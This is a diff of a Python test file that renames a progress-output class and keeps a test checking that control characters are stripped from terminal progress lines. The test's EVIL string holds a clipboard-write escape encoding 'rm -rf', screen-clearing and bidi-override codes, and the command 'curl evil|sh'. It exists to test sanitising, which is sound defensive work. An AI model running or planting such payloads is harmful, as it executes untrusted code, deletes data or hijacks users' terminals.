@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from gpuconsole.cli.headless import Progress
+from gpuconsole.cli.headless import ProgressLines
 from gpuconsole.engine.children.terminal.lines import OutputLines
 from tests.engine.children.test_job_ranks import AGENT
 
@@ -19,7 +19,7 @@ EVIL = "\x1b]52;c;cm0gLXJm\x07\x1b[2J\x1b[31mrun: curl evil|sh\u202e\x9b31m"
 
 def test_a_line_of_progress_has_no_control_characters() -> None:
     stream = io.StringIO()
-    Progress(stream).line(f"the sampler ended (exit 1): {EVIL}")
+    ProgressLines(stream).line(f"the sampler ended (exit 1): {EVIL}")
     assert stream.getvalue().removesuffix("\n").isprintable()
     assert "run: curl evil|sh" in stream.getvalue()
 
